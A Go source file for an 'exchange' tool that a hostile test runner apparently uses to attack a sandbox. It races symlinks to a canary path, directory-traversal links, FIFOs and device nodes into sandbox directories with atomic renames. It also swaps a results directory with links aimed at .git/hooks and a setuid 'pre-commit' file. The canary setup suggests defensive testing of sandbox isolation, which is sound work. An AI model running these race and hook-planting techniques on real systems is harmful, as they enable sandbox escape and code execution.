// Command exchange is what a hostile runner runs: see the README beside it.
//
//	exchange CANARY DIR...
//
// CANARY is a path of the host; each DIR is a sandbox. It swaps directories and files of the sandboxes for links to the
// canary, for pipes and for devices, atomically and without pause, and what lies at /res for a link.
package main

import (
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	runtime.GOMAXPROCS(1) // the attacked program is to get on as well
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	canary := os.Args[1]
	for _, dir := range os.Args[2:] {
		go attack(dir, canary)
	}
	go results(canary)
	<-stop
}

// attack swaps what is in a sandbox for traps.
func attack(dir, canary string) {
	up := "../../../../../../../../../../../../" + canary
	for n := 0; ; n++ {
		entries, _ := os.ReadDir(dir)
		for _, e := range entries {
			name := filepath.Join(dir, e.Name())
			swap(name, canary, n)
			swap(name, up, n)
			if !e.IsDir() {
				continue
			}
			below, _ := os.ReadDir(name)
			for _, b := range below {
				target := filepath.Join(canary, b.Name())
				swap(filepath.Join(name, b.Name()), target, n)
			}
		}
	}
}

// swap exchanges a name for a trap and back. Nothing needs to succeed.
func swap(name, target string, n int) {
	trap := name + ".trap"
	if filepath.Base(name) == "run_command" && n%8 > 5 {
		return // the runner's own shell would wait for the other end of a pipe, for ever
	}
	switch n % 8 {
	case 6:
		_ = unix.Mkfifo(trap, 0o666)
	case 7:
		_ = unix.Mknod(trap, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3)))
	default:
		_ = os.Symlink(target, trap)
	}
	for range 20 {
		exchange(name, trap)
	}
	// An even number of exchanges brought the trap back to its own name, unless galley
	// has removed one of the two meanwhile.
	_ = os.Remove(trap)
}

// results keeps what is downloaded a directory with links, or a link, in turn.
func results(canary string) {
	_ = os.MkdirAll("/res", 0o755)
	for n := 0; ; n++ {
		_ = os.RemoveAll("/res.dir")
		_ = os.MkdirAll("/res.dir/sub", 0o755)
		_ = os.WriteFile("/res.dir/pre-commit", []byte("evil"), 0o4755)
		_ = os.WriteFile("/res.dir/sub/a", []byte("evil"), 0o755)
		_ = os.Symlink("..", "/res.dir/sub/l")
		_ = os.Symlink("sub/l/../../hooks", "/res.dir/out")
		_ = os.Symlink(canary, "/res.dir/abs")
		_ = unix.Mkfifo("/res.dir/fifo", 0o666)
		exchange("/res.dir", "/res")
		_ = os.Remove("/res.link")
		_ = os.Symlink([]string{canary + "/hooks", ".git/hooks", "res.dir"}[n%3], "/res.link")
		for range 100 {
			exchange("/res", "/res.link")
		}
	}
}

func exchange(a, b string) {
	_ = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
}
